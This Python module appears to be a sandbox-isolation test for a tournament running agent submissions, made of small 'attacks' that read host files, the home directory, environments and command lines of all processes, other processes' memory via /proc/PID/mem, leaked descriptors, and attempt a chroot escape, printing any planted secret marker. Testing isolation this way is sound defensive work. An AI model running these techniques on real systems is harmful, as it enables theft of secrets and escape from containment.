"""Attacks that read what is not theirs. What is found is printed; the witness knows its secrets."""

import contextlib
import os
import stat
import sys

from .register import PLAYS_ON, SECRET, attack, done, processes

MOST = 1 << 16
OWN = os.path.dirname(os.path.abspath(__file__))


def tell(data):
    """Print every secret in some bytes."""
    at = data.find(SECRET.encode() + b"is-")
    if at >= 0:
        found = data[at : at + 60].split(b"\0")[0].split(b"\n")[0].decode("ascii", "replace")
        os.write(1, b"found: " + found.encode() + b"\n")


def read(path):
    with contextlib.suppress(OSError, ValueError), open(path, "rb") as file:
        if stat.S_ISREG(os.fstat(file.fileno()).st_mode):
            tell(file.read(MOST))


def read_all(folder):
    for where, _, names in os.walk(folder):
        for name in names:
            read(os.path.join(where, name))


@attack(PLAYS_ON)
def reads_the_host(place):
    """Reads home, the project's files, the other submission and the tournament's database."""
    read_all(place.host)
    read_all(os.path.expanduser("~"))


@attack(PLAYS_ON)
def reads_through_its_own_links(place):
    """Came with symbolic links to the host's files, which whoever copies its folder may follow."""
    for path in (os.path.join(OWN, name) for name in os.listdir(OWN)):
        with contextlib.suppress(OSError), open(path, "rb") as file:
            tell(file.read(MOST))


@attack(PLAYS_ON)
def reads_the_environment(place):
    """Reads its own environment."""
    tell("\n".join(key + "=" + value for key, value in os.environ.items()).encode("utf-8", "replace"))


@attack(PLAYS_ON)
def reads_the_others_environment(place):
    """Reads environment and command line of all processes."""
    for pid in processes():
        for name in ("environ", "cmdline"):
            with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "rb") as file:
                tell(file.read())


def regions(pid):
    with contextlib.suppress(OSError), open(f"/proc/{pid}/maps") as maps:
        for line in maps:
            place, rights = line.split()[:2]
            if rights.startswith("rw"):
                start, end = (int(part, 16) for part in place.split("-"))
                yield start, min(end - start, 1 << 24)


@attack(PLAYS_ON)
def reads_the_others_memory(place):
    """Reads the memory of the other agent and of the runner through /proc/PID/mem."""
    for pid in processes():
        with contextlib.suppress(OSError, OverflowError, ValueError), open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for start, size in regions(pid):
                with contextlib.suppress(OSError):
                    memory.seek(start)
                    tell(memory.read(size))


@attack(PLAYS_ON)
def reads_the_others_open_files(place):
    """Opens the open files of all processes."""
    for pid in processes():
        with contextlib.suppress(OSError):
            for name in os.listdir(f"/proc/{pid}/fd"):
                read(f"/proc/{pid}/fd/{name}")


@attack(PLAYS_ON)
def inherited_descriptors(place):
    """Looks for descriptors that the runner left open."""
    for fd in range(3, 1024):
        with contextlib.suppress(OSError):
            mode = os.fstat(fd).st_mode
            path = os.readlink(f"/proc/self/fd/{fd}")
            if not stat.S_ISFIFO(mode) and place.host in path:
                done("has inherited " + path)
            if stat.S_ISDIR(mode):
                read_all(f"/proc/self/fd/{fd}")


@attack(PLAYS_ON)
def climbs_out_of_its_root(place):
    """Opens the folders above its own by descriptors and handles."""
    with contextlib.suppress(OSError):
        root = os.open("/", os.O_RDONLY)
        for _ in range(20):
            root = os.open("..", os.O_RDONLY, dir_fd=root)
        read_all(f"/proc/self/fd/{root}{place.host}")
    with contextlib.suppress(OSError):
        os.chroot(".")
        done("changed its root")
    assert sys.argv is not None
